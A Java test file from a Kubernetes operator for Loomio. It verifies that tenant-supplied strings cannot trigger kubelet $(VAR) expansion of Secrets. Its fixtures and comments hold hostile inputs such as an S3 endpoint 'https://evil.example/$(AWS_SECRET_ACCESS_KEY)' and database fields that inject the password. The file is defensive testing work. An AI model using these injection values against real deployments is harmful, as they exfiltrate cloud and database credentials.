package org.loomio.operator.render;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.PodTemplateSpec;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.api.model.apps.StatefulSet;
import io.fabric8.kubernetes.api.model.batch.v1.CronJob;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.loomio.operator.api.v1alpha1.LoomioDeployment;
import org.loomio.operator.api.v1alpha1.LoomioRestoreSpec;
import org.loomio.operator.api.v1alpha1.SecretKeyRef;
import org.loomio.operator.model.ClusterCapabilities;
import org.loomio.operator.model.Credentials;
import org.loomio.operator.model.ImageDefaults;
import org.loomio.operator.model.ResolvedSpec;
import org.loomio.operator.model.SecretDigests;
import org.loomio.operator.render.backup.BackupJob;
import org.loomio.operator.render.backup.RestoreJob;
import org.loomio.operator.render.base.RenderContext;
import org.loomio.operator.render.base.Rotation;
import org.loomio.operator.render.base.UpgradeGate;
import org.loomio.operator.render.workload.RailsContainer;
import org.loomio.operator.testing.Fixtures;
import org.loomio.operator.testing.KubeletExpansion;

/**
 * The kubelet expands {@code $(VAR)} in a container's command, args and env values. A tenant's string that
 * reaches one of them unescaped can make the kubelet paste a Secret's value into it: a backup endpoint
 * {@code https://evil.example/$(AWS_SECRET_ACCESS_KEY)} would send the bucket's secret key to that server. Every
 * pod the operator renders, for every example, every file of the bad-input corpus (rendered as if validation had
 * let it through) and specs that put {@code $(...)} into every string field, refers only to the variables the
 * operator means to expand, and each user string arrives as written.
 */
class VariableExpansionTest {

  /** The only references the operator writes on purpose: the embedded Redis password (URL and server flag). */
  private static final Set<String> INTENDED = Set.of("REDIS_PASSWORD");

  static final String HOSTILE_EXTERNAL = """
      host: a.example.org
      siteName: "$(SECRET_KEY_BASE)"
      database:
        external: {host: "pg$(PGPASSWORD).example.org", user: "u$(PGPASSWORD)", database: "d$(PGPASSWORD)", passwordSecretRef: {name: pg, key: password}}
      redis: {mode: external, external: {urlSecretRef: {name: redis, key: url}}}
      env: [{name: THEME_PRIMARY_COLOR, value: "$(SECRET_KEY_BASE)"}]
      backup:
        s3:
          endpoint: "https://evil.example/$(AWS_SECRET_ACCESS_KEY)"
          bucket: "b$(AWS_SECRET_ACCESS_KEY)"
          prefix: "$(AWS_SECRET_ACCESS_KEY)"
          region: "$(AWS_ACCESS_KEY_ID)"
          serverSideEncryption: aws:kms
          kmsKeyId: "$(AWS_SECRET_ACCESS_KEY)"
          credentialsSecretRef: {name: s3}
      """;

  static final String HOSTILE_EMBEDDED = """
      host: "a$(TASK).example.org"
      hocuspocusHost: "h$(RAILS_ENV).example.org"
      storage:
        s3: {endpoint: "https://s3.example.org/$(STORAGE_SECRET_ACCESS_KEY)", bucket: uploads, region: "$(SECRET_KEY_BASE)", credentialsSecretRef: {name: s3}}
      backup:
        s3: {endpoint: "https://evil.example/$(AWS_SECRET_ACCESS_KEY)", bucket: backups, region: "$(AWS_SECRET_ACCESS_KEY)", credentialsSecretRef: {name: s3}}
      """;

  /** The attack of the review, as written: the agent must receive the endpoint, region and key id verbatim. */
  @Test
  void aBackupEndpointCannotPasteTheBucketsSecretIntoTheAgentsArguments() {
    RenderContext ctx = ctx(Fixtures.resource("team", HOSTILE_EXTERNAL), c -> c);
    List<PodTemplateSpec> pods = List.of(
        StackRenderer.render(ctx)
            .all(CronJob.class)
            .get(0)
            .getSpec()
            .getJobTemplate()
            .getSpec()
            .getTemplate(),
        BackupJob.render(ctx, "0123abcd").getSpec().getTemplate(),
        RestoreJob.render(
                ctx,
                "4567ef01",
                "latest",
                LoomioRestoreSpec.Source.s3,
                true,
                new SecretKeyRef("team-backup-key", "private.asc"),
                false,
                new SecretKeyRef("team-backup-signing-key", "public.asc"),
                false)
            .getSpec()
            .getTemplate());
    for (PodTemplateSpec pod : pods) {
      Container agent = containers(pod).stream()
          .filter(c -> c.getName().equals("agent"))
          .findFirst()
          .orElseThrow();
      KubeletExpansion.Expanded seen = KubeletExpansion.run(agent, Map.of());
      assertThat(seen.args())
          .as("what the agent receives")
          .containsSubsequence("--s3-endpoint", "https://evil.example/$(AWS_SECRET_ACCESS_KEY)")
          .containsSubsequence("--s3-region", "$(AWS_ACCESS_KEY_ID)")
          .containsSubsequence("--s3-bucket", "b$(AWS_SECRET_ACCESS_KEY)")
          .noneSatisfy(a -> assertThat(a).contains("<<secret"));
      if (seen.args().contains("--s3-sse")) {
        assertThat(seen.args()).containsSubsequence("--s3-kms-key-id", "$(AWS_SECRET_ACCESS_KEY)");
      }
    }
  }

  /** The external database's names reach pg_dump and pg_restore as written, never with the password pasted in. */
  @Test
  void theExternalDatabasesNamesCannotPasteThePasswordIntoTheClientsEnvironment() {
    RenderContext ctx = ctx(Fixtures.resource("team", HOSTILE_EXTERNAL), c -> c);
    Job backup = BackupJob.render(ctx, "0123abcd");
    Container dump = containers(backup.getSpec().getTemplate()).stream()
        .filter(c -> c.getName().equals("dump"))
        .findFirst()
        .orElseThrow();
    Map<String, String> env = KubeletExpansion.run(dump, Map.of()).env();
    assertThat(env)
        .containsEntry("PGHOST", "pg$(PGPASSWORD).example.org")
        .containsEntry("PGUSER", "u$(PGPASSWORD)")
        .containsEntry("PGDATABASE", "d$(PGPASSWORD)");
  }

  static Stream<Arguments> specs() throws IOException {
    List<Arguments> all = new ArrayList<>();
    all.add(Arguments.of(
        "hostile: external database, backups to S3", Fixtures.resource("team", HOSTILE_EXTERNAL)));
    all.add(Arguments.of(
        "hostile: embedded services, uploads and backups on S3",
        Fixtures.resource("team", HOSTILE_EMBEDDED)));
    try (Stream<Path> files = Files.list(Fixtures.examplesDir())) {
      for (Path p : files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList()) {
        all.add(Arguments.of("example " + p.getFileName(), Fixtures.fromFile(p)));
      }
    }
    try (Stream<Path> files = Files.list(Path.of("src/test/resources/invalid"))) {
      for (Path p : files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList()) {
        LoomioDeployment r;
        try {
          r = Fixtures.fromFile(p);
        } catch (RuntimeException unreadable) {
          continue; // not a LoomioDeployment at all (a wrong type, an unknown field): nothing to
          // render
        }
        all.add(Arguments.of("corpus " + p.getFileName(), r));
      }
    }
    return all.stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("specs")
  void everyRenderedPodExpandsOnlyTheOperatorsOwnReferences(
      String name, LoomioDeployment resource) {
    List<PodTemplateSpec> pods = new ArrayList<>();
    Map<String, ConfigMap> configMaps = new LinkedHashMap<>();
    RenderContext plain;
    try {
      plain = ctx(resource, c -> c);
      StackRenderer.render(plain);
    } catch (RuntimeException notRenderable) {
      // an input the render layer cannot even resolve (both databases, no host): nothing reaches a
      // pod
      assertThat(name).as("the hostile specs must render").doesNotStartWith("hostile");
      return;
    }
    List<java.util.function.UnaryOperator<RenderContext>> variants =
        new ArrayList<>(List.of(c -> c));
    if (plain.spec().database().embedded()) {
      variants.add(c -> c.withRotation(new Rotation("t1", "uid-1")));
    }
    variants.add(c -> c.withUpgradeGate(new UpgradeGate(
        "3.3.0", c.spec().loomioImageRef(), c.spec().loomioImageRef(), "2026-01-01T00:00:00Z")));
    for (var variant : variants) {
      Stack stack = StackRenderer.render(ctx(resource, variant));
      stack.all(ConfigMap.class).forEach(cm -> configMaps.put(cm.getMetadata().getName(), cm));
      for (HasMetadata o : stack.objects()) {
        template(o).ifPresent(pods::add);
      }
    }
    pods.add(BackupJob.render(plain, "0123abcd").getSpec().getTemplate());
    for (LoomioRestoreSpec.Source source : LoomioRestoreSpec.Source.values()) {
      pods.add(RestoreJob.render(
              plain,
              "4567ef01",
              "latest",
              source,
              true,
              new SecretKeyRef("team-backup-key", "private.asc"),
              true,
              new SecretKeyRef("team-backup-signing-key", "public.asc"),
              true)
          .getSpec()
          .getTemplate());
    }
    assertThat(pods).isNotEmpty();
    List<String> problems = new ArrayList<>();
    for (PodTemplateSpec pod : pods) {
      for (Container c : containers(pod)) {
        List<String> texts = new ArrayList<>();
        if (c.getCommand() != null) {
          texts.addAll(c.getCommand());
        }
        if (c.getArgs() != null) {
          texts.addAll(c.getArgs());
        }
        for (EnvVar e : c.getEnv() == null ? List.<EnvVar>of() : c.getEnv()) {
          if (e.getValue() != null) {
            texts.add(e.getValue());
          }
        }
        for (String text : texts) {
          for (String ref : KubeletExpansion.references(text)) {
            if (KubeletExpansion.VARIABLE_NAME.matcher(ref).matches() && !INTENDED.contains(ref)) {
              problems.add(c.getName() + ": $(" + ref + ") in " + text);
            }
          }
        }
        // a Secret's value lands only in its own variable, and in the intended ones
        KubeletExpansion.Expanded seen = KubeletExpansion.run(c, configMaps);
        Stream.concat(seen.command().stream(), seen.args().stream())
            .filter(
                a -> a.contains("<<secret") && !a.endsWith("/" + Credentials.REDIS_PASSWORD + ">>"))
            .forEach(a -> problems.add(c.getName() + ": a Secret in command or args: " + a));
      }
    }
    assertThat(problems).as(name).isEmpty();
  }

  /** The checker is not vacuous: an unescaped reference in any of the three places is caught. */
  @Test
  void theSimulationSeesReferencesWhereTheKubeletExpandsThem() {
    assertThat(KubeletExpansion.references("https://evil.example/$(AWS_SECRET_ACCESS_KEY)"))
        .containsExactly("AWS_SECRET_ACCESS_KEY");
    assertThat(KubeletExpansion.references("https://evil.example/$$(AWS_SECRET_ACCESS_KEY)"))
        .isEmpty();
    assertThat(KubeletExpansion.references("a$$$(B)")).containsExactly("B");
    assertThat(KubeletExpansion.expand("a$$b$c$(", n -> "X")).isEqualTo("a$b$c$(");
    assertThat(KubeletExpansion.expand("$$$$(A)", n -> "X")).isEqualTo("$$(A)");
    Container c = new io.fabric8.kubernetes.api.model.ContainerBuilder()
        .withName("c")
        .withEnv(
            new EnvVar("B", "$(A)", null),
            RailsContainer.fromSecret("A", "s", "k"),
            new EnvVar("C", "x$(A)", null))
        .withArgs("$(A)", "$$(A)")
        .build();
    KubeletExpansion.Expanded seen = KubeletExpansion.run(c, Map.of());
    assertThat(seen.env()).containsEntry("B", "$(A)").containsEntry("C", "x<<secret s/k>>");
    assertThat(seen.args()).containsExactly("<<secret s/k>>", "$(A)");
  }

  private static RenderContext ctx(
      LoomioDeployment r, java.util.function.UnaryOperator<RenderContext> with) {
    ResolvedSpec spec = ResolvedSpec.of(r, ImageDefaults.BUILT_IN);
    return with.apply(new RenderContext(
            spec, ClusterCapabilities.newest(), Fixtures.credentials(r), SecretDigests.none())
        .withBackupPublicKey("-----BEGIN PGP PUBLIC KEY BLOCK-----\n..."));
  }

  private static java.util.Optional<PodTemplateSpec> template(HasMetadata o) {
    if (o instanceof Deployment d) {
      return java.util.Optional.of(d.getSpec().getTemplate());
    }
    if (o instanceof StatefulSet s) {
      return java.util.Optional.of(s.getSpec().getTemplate());
    }
    if (o instanceof Job j) {
      return java.util.Optional.of(j.getSpec().getTemplate());
    }
    if (o instanceof CronJob cj) {
      return java.util.Optional.of(cj.getSpec().getJobTemplate().getSpec().getTemplate());
    }
    return java.util.Optional.empty();
  }

  private static List<Container> containers(PodTemplateSpec pod) {
    List<Container> all = new ArrayList<>();
    if (pod.getSpec().getInitContainers() != null) {
      all.addAll(pod.getSpec().getInitContainers());
    }
    all.addAll(pod.getSpec().getContainers());
    return all;
  }
}
